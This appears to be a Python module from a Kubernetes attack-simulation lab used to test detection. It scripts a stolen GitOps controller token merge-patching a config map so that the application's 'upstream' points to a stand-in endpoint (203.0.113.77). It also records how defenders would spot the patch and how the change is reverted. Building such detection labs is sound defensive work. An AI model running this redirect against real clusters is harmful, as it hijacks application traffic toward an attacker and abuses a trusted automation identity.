"""Attack: configuration of an application changed by the GitOps account.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

import msgspec

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths, session

CARD = base.Card(
    id="config-rewrite",
    title="Configuration of an application changed by the GitOps account",
    technique=base.Technique(id="T1565.001", name="Stored Data Manipulation", tactic="Impact"),
    use_case=vocabulary.UseCase.IMPACT,
    subtlety=base.Subtlety.SUBTLE,
    does=(
        "With the GitOps controller's token, address and client, changes a config map by hand so that the "
        "application talks to another endpoint, and lets the next sync hide it."
    ),
    seen_by="The controller applies with server-side apply in sync waves; a lone merge patch is not its habit.",
    cleans_up="The config map gets its old content back.",
    victim=base.Part.GITOPS,
    when=base.When.NIGHT,
    catalogues=("Microsoft: Data manipulation",),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.GITOPS)
    thief = ctx.act_as(victim)
    homes = [space for space in ctx.namespaces() if ctx.may(victim, "PATCH", paths.core("configmaps", space, "a"))]
    reached = msgspec.structs.replace(victim, namespaces=tuple(homes))
    maps, name = ctx.one_of(reached, paths.core("configmaps", context.HOME), leave_out=["kube-root-ca.crt"])
    path = f"{maps}/{name}"
    ctx.restore_later(path, {"data": {"upstream": None}})
    yield thief.get(path)
    yield thief.patch(path, {"data": {"upstream": "https://203.0.113.77"}}, content_type=session.MERGE_PATCH)


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
